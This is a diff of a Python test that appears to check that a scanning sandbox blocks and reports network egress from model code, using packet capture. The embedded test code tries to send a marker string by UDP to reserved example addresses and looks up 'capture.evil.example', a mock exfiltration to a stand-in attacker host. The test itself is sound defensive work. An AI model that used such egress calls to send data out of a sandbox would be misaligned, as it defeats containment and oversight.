@@ -17,6 +17,7 @@ if TYPE_CHECKING:
     from collections.abc import Iterator
     from pathlib import Path
 
+ADDRESSES = ("203.0.113.7", "2001:db8::7", "203.0.113.8", "2001:db8::8")
 MARK = "exfiltrated-by-the-capture-test"
 CODE = f"""
 import socket, urllib.request
@@ -30,10 +31,6 @@ attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"{MARK}
 attempt(lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"{MARK}", ("2001:db8::8", 9)))
 attempt(lambda: socket.getaddrinfo("{MARK}.evil.example", 80))
 """
-NETWORKS = [
-    ipaddress.ip_network(text)
-    for text in ("192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24", "2001:db8::/32")
-]
 
 
 class Loud:
@@ -64,18 +61,16 @@ def capture() -> Iterator[list[bytes]]:
             thread.join()
 
 
-def concerns(frame: bytes) -> bool:
-    """Whether a packet carries the mark, or comes from or goes to an address that was tried."""
-    if MARK.encode() in frame or b"capture" in frame:
+def concerns(frame: bytes, tried: set[bytes]) -> bool:
+    """Whether a packet carries the mark, or comes from or goes to an address that was tried: not
+    any of the networks for examples, as machines have been given addresses of those."""
+    if MARK.encode() in frame or b"capture\x04evil" in frame:  # as a DNS question has it
         return True
     if frame[:1] and frame[0] >> 4 == 4:
-        addresses = [frame[12:16], frame[16:20]]
-    elif frame[:1] and frame[0] >> 4 == 6:
-        addresses = [frame[8:24], frame[24:40]]
-    else:
-        return False
-    parsed = [ipaddress.ip_address(raw) for raw in addresses if len(raw) in (4, 16)]
-    return any(address in network for address in parsed for network in NETWORKS)
+        return not tried.isdisjoint((frame[12:16], frame[16:20]))
+    if frame[:1] and frame[0] >> 4 == 6:
+        return not tried.isdisjoint((frame[8:24], frame[24:40]))
+    return False
 
 
 def send_from_the_host() -> None:
@@ -91,13 +86,17 @@ def test_no_packet_of_a_model_reaches_an_interface_of_the_host(tmp_path: Path) -
     with capture() as frames:
         report = pipeline.scan(str(source))
         heard = [each for each in report.egress if MARK in each.payload_preview]
-        inside = [frame for frame in frames if concerns(frame)]
+        tried = {
+            ipaddress.ip_address(each.address).packed for each in report.egress if each.address
+        }
+        inside = [frame for frame in frames if concerns(frame, tried)]
         send_from_the_host()
         for _ in range(50):
-            if any(concerns(frame) for frame in frames):
+            if any(concerns(frame, tried) for frame in frames):
                 break
             threading.Event().wait(0.1)
     assert len(heard) >= 4, (report.outcome_detail, report.egress)
     assert {each.domain for each in report.egress} >= {"capture.evil.example"}
     assert inside == []
-    assert any(concerns(frame) for frame in frames), "the capture works"
+    assert {ipaddress.ip_address(each).packed for each in ADDRESSES} <= tried
+    assert any(concerns(frame, tried) for frame in frames), "the capture works"
